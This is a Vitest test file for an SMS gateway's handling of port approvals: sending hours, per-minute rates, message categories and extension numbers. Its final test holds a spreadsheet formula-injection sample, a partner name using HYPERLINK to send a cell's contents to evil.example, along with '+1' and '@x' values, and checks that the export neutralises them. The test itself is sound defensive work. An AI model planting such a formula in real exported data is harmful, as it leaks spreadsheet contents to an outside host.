import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { startTestGateway, type TestGateway } from './gateway.ts'

/* What a port may send, and when: as it was approved, by file. */
describe('a port’s approval', () => {
  let on: TestGateway
  beforeAll(async () => {
    on = await startTestGateway('embedded')
  })
  afterAll(() => on?.stop())

  const headers = { 'content-type': 'text/csv' }
  const send = async (rows: string, columns = 'port,partner_id,category,classes,hours,per_minute') =>
    (await on.call('POST', '/v1/import/ports', `${columns}\n${rows}\n`, { headers })).text
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line))
  const row = async (port: string) =>
    (await on.call('GET', '/v1/export/ports')).text.split('\n').find((line) => line.startsWith(`${port},`))
  const zone = 'Asia/Shanghai'
  const wall = (hours: number) =>
    Temporal.Now.plainTimeISO(zone)
      .add({ hours })
      .round({ smallestUnit: 'hour', roundingMode: 'floor' })
      .toString()
      .slice(0, 5)

  it('names hours and rate, which come out as they went in; the same again changes nothing', async () => {
    const [line] = await send('10664001,sp-skycast,information,service,08:00 - 22:00,120')
    expect(line.done).toMatchObject({ taken: 1, refused: 0 })
    await expect.poll(() => row('10664001')).toMatch(/^10664001,sp-skycast,information,service,08:00-22:00,120,/)
    expect((await send('10664001,sp-skycast,information,service,08:00-22:00,120'))[0].done.unchanged).toBe(1)
    // A file from before there were hours says nothing about them.
    const old = await send('10664001,sp-skycast,information,service otp', 'port,partner_id,category,classes')
    expect(old[0].done.taken).toBe(1)
    await expect.poll(() => row('10664001')).toMatch(/,service otp,08:00-22:00,120,/)
  })

  it.each([
    ['25:00-26:00', '', 'hours'],
    ['08:00-08:00', '', 'hours'],
    ['8-22', '', 'hours'],
    ['', '0', 'perMinute'],
    ['', 'many', 'perMinute'],
  ])('refuses hours %j with rate %j by name', async (hours, rate, field) => {
    const [line] = await send(`10664002,sp-skycast,information,service,${hours},${rate}`)
    expect(line.error).toContain(field)
  })

  it('lets nobody send from a short code that lies behind the port', async () => {
    await send('10086,sp-skycast,information,service,,')
    await expect.poll(() => row('10086')).toMatch(/^10086,/)
    const items = ['1008612', '10086901'].map((from) => ({ from, to: '8613500135720', class: 'service' }))
    const { body } = await on.call('POST', '/v1/mt/check', { items })
    expect(body.items.map(({ rule }: { rule: string }) => rule)).toEqual(['allowed', 'port.unknown'])
  })

  it('is kept: outside its hours nothing goes, the partner is told from when again, and the decision stands', async () => {
    await send(`10664002,sp-skycast,information,service otp,${wall(2)}-${wall(4)},`)
    await expect.poll(() => row('10664002')).toContain(wall(2))
    const to = '8613500135721'
    const items = [{ from: '10664002', to, class: 'service' }]
    expect((await on.call('POST', '/v1/mt/check', { items })).body.items).toEqual([
      { allow: false, rule: 'port.hours' },
    ])
    // An extension is its port: its hours, its decisions.
    const extension = { from: '1066400201', to, class: 'service' }
    expect((await on.call('POST', '/v1/mt/check', { items: [extension] })).body.items[0].rule).toBe('port.hours')
    const refused = await on.call('POST', '/v1/mt', { ...extension, text: '路况' })
    expect([refused.status, refused.body.rule]).toEqual([403, 'port.hours'])
    expect(
      Temporal.Instant.from(refused.body.opens_at).toZonedDateTimeISO(zone).toPlainTime().toString().slice(0, 5),
    ).toBe(wall(2))
    await expect
      .poll(async () => (await on.call('GET', `/v1/mt/${refused.body.id}`)).body)
      .toMatchObject({ port: '10664002', partner: 'sp-skycast', allow: false, rule: 'port.hours' })
    const { items: decided } = (await on.call('GET', '/v1/mt?port=1066400201')).body
    expect(decided.map(({ id }: { id: string }) => id)).toContain(refused.body.id)
    await send(`10664002,sp-skycast,information,service otp,${wall(-1)}-${wall(2)},`)
    await expect
      .poll(async () => (await on.call('POST', '/v1/mt/check', { items })).body.items[0])
      .toEqual({ allow: true, rule: 'allowed' })
  })

  it('is of a category: marketing of another is refused where it is checked and sent, and what follows a new approval', async () => {
    const approve = (category: string) => send(`10664003,sp-skycast,${category},service marketing,,`)
    await approve('information')
    await expect.poll(() => row('10664003')).toContain('information')
    const to = '8613500135722'
    const text = '【天穹】信 用 贷-款当天放款，回T退订'
    const rules = async () => {
      const items = ['marketing', 'service'].map((kind) => ({ from: '1066400301', to, class: kind, text }))
      const checked = (await on.call('POST', '/v1/mt/check', { items })).body.items
      return checked.map(({ rule }: { rule: string }) => rule)
    }
    expect(await rules()).toEqual(['port.category', 'allowed'])
    const refused = await on.call('POST', '/v1/mt', { from: '10664003', to, text, class: 'marketing' })
    expect([refused.status, refused.body.rule]).toEqual([403, 'port.category'])
    await approve('finance')
    await expect.poll(rules).toEqual(['allowed', 'allowed'])
    const sent = await on.call('POST', '/v1/mt', { from: '10664003', to, text, class: 'marketing' })
    expect(sent.status).toBe(202)
  })

  it('has no name that a spreadsheet works out: it is shown, and comes back as it was', async () => {
    const name = '=HYPERLINK("http://evil.example?"&A1)'
    const csv = `partner_id,name_zh,name_en,kind\nsp-formula,"${name.replaceAll('"', '""')}",+1,@x\n`
    await on.call('POST', '/v1/import/partners', csv, { headers })
    const exported = async () =>
      (await on.call('GET', '/v1/export/partners')).text.split('\n').find((line) => line.startsWith('sp-formula'))
    await expect.poll(exported).toBe(`sp-formula,"'${name.replaceAll('"', '""')}",'+1,'@x,`)
    const again = `partner_id,name_zh,name_en,kind,legal_id\n${await exported()}\n`
    const { text } = await on.call('POST', '/v1/import/partners', again, { headers })
    expect(JSON.parse(text).done).toMatchObject({ unchanged: 1, taken: 0 })
  })
})
